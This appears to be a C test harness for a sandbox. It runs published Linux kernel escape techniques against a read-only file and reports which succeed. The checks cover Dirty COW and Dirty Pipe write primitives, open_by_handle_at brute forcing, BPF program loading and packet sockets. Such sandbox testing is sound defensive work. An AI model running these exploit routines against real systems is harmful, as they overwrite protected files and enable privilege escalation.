/*
 * The kernel's own flaws of published escape scenarios, tried in earnest against
 * a file that may only be read. Compiled inside by cases_published.py:
 *
 *   published CHECK FILE    prints what got through; 0 for nothing
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define SECONDS 1.0
static const char mark[] = "ESCAPED!";

static int bad;
static volatile int stop;
static void *map;

static int
is_marked(const char *path)
{
    char buf[sizeof(mark)] = "";
    int fd = open(path, O_RDONLY);

    if (fd < 0 || pread(fd, buf, sizeof(mark) - 1, 1) < 0)
        return 0;
    close(fd);
    return memcmp(buf, mark, sizeof(mark) - 1) == 0;
}

static void *
advise(void *arg)
{
    (void)arg;
    while (!stop)
        madvise(map, 100, MADV_DONTNEED);
    return NULL;
}

static double
now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* CVE-2016-5195: write to a private mapping while its page goes. */
static void
dirty_cow(const char *path)
{
    pthread_t thread;
    int fd = open(path, O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
    double end = now() + SECONDS;
    long n = 0;

    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map == MAP_FAILED || mem < 0)
        exit(3);
    pthread_create(&thread, NULL, advise, NULL);
    for (; now() < end; n++) {
        lseek(mem, (off_t)(uintptr_t)map + 1, SEEK_SET);
        if (write(mem, mark, sizeof(mark) - 1) < 0)
            break;
    }
    stop = 1;
    pthread_join(thread, NULL);
    if (n < 100)
        printf("only %ld tries\n", n), bad++;
    if (is_marked(path))
        printf("a file was changed by a race of page faults\n"), bad++;
}

/* CVE-2022-0847: a page of the file in a pipe that says it may be appended to. */
static void
dirty_pipe(const char *path)
{
    static char page[4096];
    int p[2], fd = open(path, O_RDONLY);
    loff_t at = 0;

    if (pipe(p) < 0 || fd < 0)
        exit(3);
    int size = fcntl(p[1], F_GETPIPE_SZ);
    for (int n = 0; n < size; n += (int)sizeof(page))
        if (write(p[1], page, sizeof(page)) < 0)
            exit(3);
    for (int n = 0; n < size; n += (int)sizeof(page))
        if (read(p[0], page, sizeof(page)) < 0)
            exit(3);
    if (splice(fd, &at, p[1], NULL, 1, 0) != 1
        || write(p[1], mark, sizeof(mark) - 1) < 0)
        exit(3);
    if (is_marked(path))
        printf("a file was changed through a pipe\n"), bad++;
}

/* CAP_DAC_READ_SEARCH: the root of the file system behind a file, by handle. */
static void
handles(const char *path)
{
    struct {
        unsigned bytes;
        int type;
        unsigned char f[128];
    } h = {8, 1, {2}};
    int at = open(path, O_RDONLY), n = 0;

    for (int type = 1; type < 4; type++)
        for (unsigned ino = 0; ino < 256; ino++) {
            h.type = type;
            memset(h.f, 0, sizeof(h.f));
            h.f[0] = (unsigned char)ino;
            int fd = (int)syscall(SYS_open_by_handle_at, at, &h, O_RDONLY);
            if (fd >= 0)
                n++, close(fd);
        }
    if (n > 0)
        printf("%d files by handle\n", n), bad++;
}

/* CVE-2017-16995 and its kin begin with a program in the kernel. */
static void
programs(const char *path)
{
    struct bpf_insn ret[] = {{0xb7, 0, 0, 0, 0}, {0x95, 0, 0, 0, 0}};
    union bpf_attr a;

    (void)path;
    for (unsigned type = 1; type < 33; type++) {
        memset(&a, 0, sizeof(a));
        a.prog_type = type;
        a.insns = (uintptr_t)ret;
        a.insn_cnt = 2;
        a.license = (uintptr_t) "GPL";
        if (syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof(a)) >= 0)
            printf("program of type %u\n", type), bad++;
    }
    memset(&a, 0, sizeof(a));
    a.map_type = 2;
    a.key_size = a.value_size = 4;
    a.max_entries = 1;
    if (syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a)) >= 0)
        printf("a map\n"), bad++;
}

/* CVE-2016-8655, 2017-7308, 2020-14386: rings of packet sockets. */
static void
packets(const char *path)
{
    (void)path;
    for (int type = 1; type < 11; type++)
        if (socket(17, type, 0x300) >= 0)
            printf("a packet socket of type %d\n", type), bad++;
}

int
main(int argc, char **argv)
{
    static const struct {
        const char *name;
        void (*check)(const char *path);
    } checks[] = {{"dirty_cow", dirty_cow}, {"dirty_pipe", dirty_pipe},
                  {"handles", handles},     {"programs", programs},
                  {"packets", packets}};

    for (size_t i = 0; argc == 3 && i < sizeof(checks) / sizeof(checks[0]);
         i++)
        if (strcmp(argv[1], checks[i].name) == 0) {
            checks[i].check(argv[2]);
            return bad == 0 ? 0 : 1;
        }
    return 2;
}
